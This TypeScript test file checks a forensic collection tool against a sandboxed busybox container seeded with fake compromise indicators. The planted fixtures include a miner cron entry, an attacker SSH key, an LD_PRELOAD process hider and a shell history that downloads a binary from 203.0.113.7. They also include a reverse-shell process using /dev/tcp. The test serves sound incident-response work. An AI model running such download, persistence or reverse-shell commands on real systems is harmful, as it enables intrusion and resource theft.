/**
 * Triage of a compromised busybox container on the sandbox runtime (real processes), asserting
 * on the content of the bundle.
 */
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AcquisitionReport, ArtifactCollector, type ProgressEvent } from '../../src/collect/index.js';
import { verifyEvidence } from '../../src/evidence/index.js';
import { hostileProcesses } from '../../src/testing/sandbox/index.js';
import { skipWithoutPeer } from '../support/peers.js';
import {
  addSandboxPod,
  bundleJson,
  bundleText,
  collectedFile,
  type Env,
  filesIndex,
  sandboxMissing,
  startEnv,
} from './support.js';

const skip = skipWithoutPeer('bwrap', sandboxMissing());

const sha = (b: string | Buffer) => createHash('sha256').update(b).digest('hex');
const b64url = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');
const TOKEN_SIG = 'c2lnbmF0dXJlLXNob3VsZC1uZXZlci1iZS1zdG9yZWQ';
const TOKEN = `${b64url({ alg: 'RS256', kid: 'k1' })}.${b64url({ iss: 'https://oidc.eks.example', sub: 'system:serviceaccount:default:app', aud: ['sts.amazonaws.com'], exp: 1_900_000_000 })}.${TOKEN_SIG}`;
const SHADOW = 'root:$6$saltsalt$Zm9yZW5zaWNzLXNoYWRvdy1oYXNoLW5ldmVyLWNvcGllZA:19000:0:99999:7:::\n';
const AUTH_KEYS = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyForTests attacker@evil.example\n';
const PRELOAD = '/usr/lib/libprocesshider.so\n';
const CRON = '*/5 * * * * /tmp/.x/xmrig --url stratum+tcp://pool.example.invalid:3333 >/dev/null 2>&1\n';
const MINER = `\x7fELF-not-really-a-miner-${'M'.repeat(3000)}`;
const ENV_SECRET = 'EXAMPLEKEYwJalrXUtnFEMI/K7MDENG/bPxRfiCY';

function allFiles(dir: string): string[] {
  const out: string[] = [];
  for (const n of readdirSync(dir)) {
    const p = join(dir, n);
    if (statSync(p).isDirectory()) out.push(...allFiles(p));
    else out.push(p);
  }
  return out;
}

describe.skipIf(skip)('triage of a compromised busybox container', () => {
  let env: Env;
  let report: AcquisitionReport;
  let loc: string;
  const events: ProgressEvent[] = [];

  beforeAll(async () => {
    env = await startEnv();
    const t = await addSandboxPod(
      env,
      {
        preset: 'busybox',
        files: {
          '/tmp/.x/xmrig': { content: MINER, executable: true, mtime: new Date(Date.now() + 3_600_000) },
          '/usr/local/bin/su-helper': { content: '#!/bin/sh\n', mode: 0o4755 },
          '/tmp/.x/config.json': {
            content: '{"pools":[{"url":"stratum+tcp://pool.example.invalid:3333"}]}\n',
          },
          '/root/.ssh/authorized_keys': { content: AUTH_KEYS, mode: 0o600 },
          '/etc/ld.so.preload': { content: PRELOAD },
          '/etc/crontabs/root': { content: CRON },
          '/etc/shadow': { content: SHADOW, mode: 0o640 },
          '/var/log/nginx/access.log': { type: 'symlink', target: '/dev/stdout' },
          '/var/log/nginx/error.log': { content: '2026/11/22 connect() failed\n' },
          '/var/run/secrets/kubernetes.io/serviceaccount/token': { content: TOKEN },
          '/var/run/secrets/kubernetes.io/serviceaccount/namespace': { content: 'default' },
          '/root/.ash_history': {
            content: 'wget http://203.0.113.7/x -O /tmp/.x/xmrig\nchmod +x /tmp/.x/xmrig\n',
          },
        },
        processes: hostileProcesses(),
      },
      { command: ['sleep', '86400'], logs: { current: 'GET / 200\nGET /.env 404\n' } },
    );
    const collector = new ArtifactCollector({
      sink: env.sink,
      profiles: ['triage'],
      caseId: 'CASE-1',
      examiner: 'tester',
      callerArn: 'arn:aws:sts::123456789012:assumed-role/ir-responder/case-1',
    });
    collector.on('progress', (e) => events.push(e));
    report = await collector.acquire({ kube: env.kube, ...t });
    loc = report.targets[0]?.location ?? '';
  }, 120_000);

  afterAll(async () => {
    await env?.close();
  });

  it('finalizes a verifiable bundle and reports the strategy', async () => {
    const r = report.targets[0];
    expect(r?.finalized, JSON.stringify(r?.reasons)).toBe(true);
    expect(r?.manifestSha256).toMatch(/^[0-9a-f]{64}$/);
    expect(r?.strategy.content).toBe('tar');
    expect(r?.needsEphemeralContainer).toBe(false);
    expect(r?.status, JSON.stringify(r?.reasons)).toBe('complete');
    const v = await verifyEvidence(loc, { expectedManifestSha256: r?.manifestSha256 });
    expect(v.ok, JSON.stringify(v)).toBe(true);
    const custody = bundleJson<{
      examiner: { kubernetesUser?: { username: string }; name?: string; callerArn?: string };
      caseId: string;
    }>(loc, 'custody.json');
    expect(custody.examiner.kubernetesUser?.username).toBeTruthy();
    expect(custody.examiner.name).toBe('tester');
    expect(custody.examiner.callerArn).toBe('arn:aws:sts::123456789012:assumed-role/ir-responder/case-1');
    expect(custody.caseId).toBe('CASE-1');
  });

  it('captures API state first (pod, events, logs)', () => {
    const pod = bundleJson<{ metadata: { name: string } }>(loc, 'pod/pod.json');
    expect(pod.metadata.name).toBe(report.targets[0]?.target.pod);
    expect(bundleText(loc, 'pod/logs/app.log')).toContain('GET /.env 404');
    const order = events
      .filter((e) => e.type === 'artifact-started')
      .map((e) => (e as { path: string }).path);
    const firstProc = order.findIndex((p) => p.includes('/proc/'));
    const firstListing = order.findIndex((p) => /files\/listing\/\d+\.raw$/.test(p));
    const firstContent = order.findIndex((p) => /files\/content-/.test(p));
    expect(order.indexOf('pod/pod.json')).toBeLessThan(firstProc);
    expect(firstProc).toBeLessThan(firstListing);
    expect(firstListing).toBeLessThan(firstContent);
  });

  it('finds the miner process, the reverse shell from a deleted binary and recovers its bytes', () => {
    const procs = bundleJson<{
      processes: { pid: number; cmdline?: string; exe?: string; exeDeleted: boolean }[];
    }>(loc, 'containers/app/proc/processes.json').processes;
    const miner = procs.find((p) => p.cmdline?.includes('xmrig'));
    expect(miner?.cmdline).toContain('stratum+tcp://pool.example.invalid:3333');
    expect(miner?.exeDeleted).toBe(true);
    const rs = procs.find((p) => p.exe?.startsWith('/var/tmp/.rs/sh'));
    expect(rs?.exe).toBe('/var/tmp/.rs/sh (deleted)');
    expect(rs?.cmdline).toContain('/dev/tcp/203.0.113.7/4444');
    const manifest = bundleJson<{ artifacts: { path: string; sha256?: string; status: string }[] }>(
      loc,
      'manifest.json',
    );
    const exe = manifest.artifacts.find((a) => a.path === `containers/app/proc/${rs?.pid}/exe.bin`);
    expect(exe?.status).toBe('complete');
    expect(exe?.sha256).toBe(sha(readFileSync('/usr/bin/busybox')));
  });

  it('hashes environ values, keeps loader variables in clear and flags them', () => {
    const procs = bundleJson<{ processes: { pid: number; cmdline?: string }[] }>(
      loc,
      'containers/app/proc/processes.json',
    ).processes;
    const kw = procs.find((p) => p.cmdline?.includes('kworker'));
    const envJson = bundleJson<{ variables: { name: string; value: string }[] }>(
      loc,
      `containers/app/proc/${kw?.pid}/environ.json`,
    );
    const ld = envJson.variables.find((v) => v.name === 'LD_PRELOAD');
    expect(ld).toMatchObject({ value: '/usr/lib/libprocesshider.so', category: 'loader' });
    expect(envJson.variables.find((v) => v.name === 'AWS_SECRET_ACCESS_KEY')?.value).toBe(
      `sha256:${sha(ENV_SECRET)}`,
    );
    expect(JSON.stringify(envJson)).not.toContain(ENV_SECRET);
    const flags = bundleJson<{ variables: { pid: number; name: string; value: string; category: string }[] }>(
      loc,
      'containers/app/proc/environment-findings.json',
    );
    expect(flags.variables).toContainEqual(
      expect.objectContaining({ pid: kw?.pid, name: 'LD_PRELOAD', value: '/usr/lib/libprocesshider.so' }),
    );
    expect(JSON.stringify(flags)).not.toContain(ENV_SECRET);
  });

  it('hashes every running executable on our side, by the kernel handle, deleted ones included', () => {
    const rows = bundleJson<{ artifacts: { path: string; status: string }[] }>(
      loc,
      'manifest.json',
    ).artifacts;
    expect(rows.find((a) => a.path === 'containers/app/proc/exe-hashes.json')?.status).toBe('complete');
    const doc = bundleJson<{
      hashes: {
        paths: string[];
        sha256?: string;
        via: string;
        whole: boolean;
        deleted: boolean;
        executable: boolean;
      }[];
      notHashed: unknown[];
    }>(loc, 'containers/app/proc/exe-hashes.json');
    expect(doc.notHashed).toEqual([]);
    const busybox = readFileSync('/bin/busybox');
    const bb = doc.hashes.find((h) => h.sha256 === sha(busybox));
    expect(bb, JSON.stringify(doc.hashes.map((h) => h.paths))).toBeDefined();
    expect(bb?.via).toBe('handle');
    // the deleted reverse shell ran from a busybox copy: hashed through /proc/<pid>/exe although gone
    const gone = doc.hashes.find((h) => h.deleted && h.paths.some((p) => p.includes('/var/tmp/.rs/sh')));
    expect(gone?.sha256).toBe(sha(busybox));
    expect(doc.hashes.filter((h) => !h.whole || h.via !== 'handle')).toEqual([]);
  });

  it('copies each planted file indicator byte for byte', async () => {
    expect((await collectedFile(loc, '/root/.ssh/authorized_keys'))?.toString()).toBe(AUTH_KEYS);
    expect((await collectedFile(loc, '/etc/ld.so.preload'))?.toString()).toBe(PRELOAD);
    expect((await collectedFile(loc, '/etc/crontabs/root'))?.toString()).toBe(CRON);
    expect((await collectedFile(loc, '/tmp/.x/xmrig'))?.toString('latin1')).toBe(MINER);
    expect((await collectedFile(loc, '/root/.ash_history'))?.toString()).toContain(
      'wget http://203.0.113.7/x',
    );
    const rows = filesIndex(loc);
    expect(rows.find((r) => r.path === '/tmp/.x/xmrig')?.sha256).toBe(sha(Buffer.from(MINER, 'latin1')));
  });

  it('derives drift, SUID and dropped-executable findings from metadata alone', () => {
    const f = bundleJson<{
      changedSinceStart: string[];
      setuid: string[];
      executablesInWritableDirs: string[];
      containerStartedAt?: number;
    }>(loc, 'containers/app/files/findings.json');
    expect(f.containerStartedAt).toBeGreaterThan(0);
    expect(f.changedSinceStart).toContain('/tmp/.x/xmrig');
    expect(f.setuid).toContain('/usr/local/bin/su-helper');
    expect(f.executablesInWritableDirs).toContain('/tmp/.x/xmrig');
  });

  it('records the access.log -> /dev/stdout symlink without following it', () => {
    const row = filesIndex(loc).find((r) => r.path === '/var/log/nginx/access.log');
    expect(row?.status).toBe('link');
    expect(row?.linkTarget).toBe('/dev/stdout');
    expect(bundleText(loc, 'containers/app/files/bodyfile.txt')).toMatch(
      /\|\/var\/log\/nginx\/access\.log\|\d+\|lrwxrwxrwx\|/,
    );
  });

  it('keeps secrets out: shadow hashed, token reduced to claims, env secret absent everywhere', () => {
    const rows = filesIndex(loc);
    const shadow = rows.find((r) => r.path === '/etc/shadow');
    expect(shadow?.status).toBe('hashed');
    expect(shadow?.sha256).toBe(sha(SHADOW));
    const tokens = bundleJson<{ path: string; sha256: string; claims: { sub: string } }[]>(
      loc,
      'containers/app/files/tokens.json',
    );
    const sa = tokens.find((t) => t.path === '/var/run/secrets/kubernetes.io/serviceaccount/token');
    expect(sa?.claims.sub).toBe('system:serviceaccount:default:app');
    expect(sa?.sha256).toBe(sha(TOKEN));
    for (const f of allFiles(loc)) {
      const text = readFileSync(f, 'latin1');
      expect(text.includes('Zm9yZW5zaWNzLXNoYWRvdy1oYXNoLW5ldmVyLWNvcGllZA'), f).toBe(false);
      expect(text.includes(TOKEN_SIG), f).toBe(false);
      expect(text.includes(ENV_SECRET), f).toBe(false);
    }
  });

  it('logs every exec with argv, exit code and byte counts', () => {
    const lines = bundleText(loc, 'acquisition.log')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    const execs = lines.filter((l) => l.event === 'exec');
    expect(execs.length).toBeGreaterThanOrEqual(5);
    for (const e of execs) {
      expect(Array.isArray(e.argv)).toBe(true);
      expect(typeof e.stdoutBytes).toBe('number');
      expect(e).toHaveProperty('exitCode');
    }
    expect(execs.map((e) => e.step)).toEqual(
      expect.arrayContaining(['probe', 'volatile', 'listing', 'process-bytes']),
    );
  });
});
